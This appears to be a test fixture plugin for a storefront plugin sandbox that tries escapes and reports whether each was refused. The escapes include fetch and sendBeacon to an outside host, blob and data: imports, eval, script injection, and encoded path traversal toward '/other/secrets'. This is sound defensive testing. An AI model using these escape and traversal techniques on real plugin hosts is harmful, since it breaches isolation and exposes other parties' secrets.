// Tries what no plugin may do, and tells how that went.

const attempts = {
  fetchStranger: ({ stranger }) => fetch(`${stranger}/collect`),
  beaconStranger: ({ stranger }) => new Promise((resolve, reject) => {
    document.addEventListener("securitypolicyviolation", ({ blockedURI }) => {
      if (blockedURI.startsWith(stranger)) reject(new Error("blocked"));
    });
    navigator.sendBeacon(`${stranger}/collect`, "x");
    setTimeout(resolve, 1000);
  }),
  blobWorker: () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
    worker.onmessage = resolve;
    worker.onerror = () => reject(new Error("blocked"));
  }),
  importWithQuery: () => import(`${import.meta.url}?x`),
  importWithFragment: () => import(`${import.meta.url}#x`),
  importUnlisted: ({ cdn, unlisted }) => import(cdn + unlisted),
  importStranger: ({ stranger }) => import(`${stranger}/module.js`),
  // In two parts, since a bundler would put it into the bundle.
  importData: () => import(`data:${"text/javascript"},export default 1`),
  importBlob: () => import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" }))),
  evaluate: async () => (0, eval)("1"),
  inlineScript: () => new Promise((resolve, reject) => {
    const script = Object.assign(document.createElement("script"), { textContent: "globalThis.isInline = true" });
    document.body.append(script);
    globalThis.isInline ? resolve() : reject(new Error("blocked"));
  }),
  scriptElement: ({ cdn, unlisted }) => new Promise((resolve, reject) => {
    const script = Object.assign(document.createElement("script"), { src: cdn + unlisted, onload: resolve });
    script.onerror = () => reject(new Error("blocked"));
    document.body.append(script);
  }),
  throwLater: async () => { setTimeout(() => { throw new Error("in a handler"); }); },
  rejectLater: async () => { Promise.reject(new Error("in a promise")); },
  mountPoint: async (_, context, element) => context.mount("storefront.test.alone/v1", element, { text: "x" }),
  apiAbove: (_, { api }) => api.fetch("/../other/secrets"),
  apiBeside: (_, { api }) => api.fetch("-other/secrets"),
  apiEncoded: (_, { api }) => api.fetch("/%2e%2e/other/secrets"),
};

export const Escapes = {
  mount(element, props, context) {
    context.events.on("escape.asked", async ({ attempt, ...places }) => {
      let outcome = "done";
      await attempts[attempt](places, context, element).catch(({ message }) => { outcome = `refused: ${message}`; });
      context.events.emit("escape.known", { outcome });
    });
    context.events.on("steady.answered", () => element.append("heard what it does not consume"));
    context.events.emit("steady.said", { text: "not mine" });
  },
};
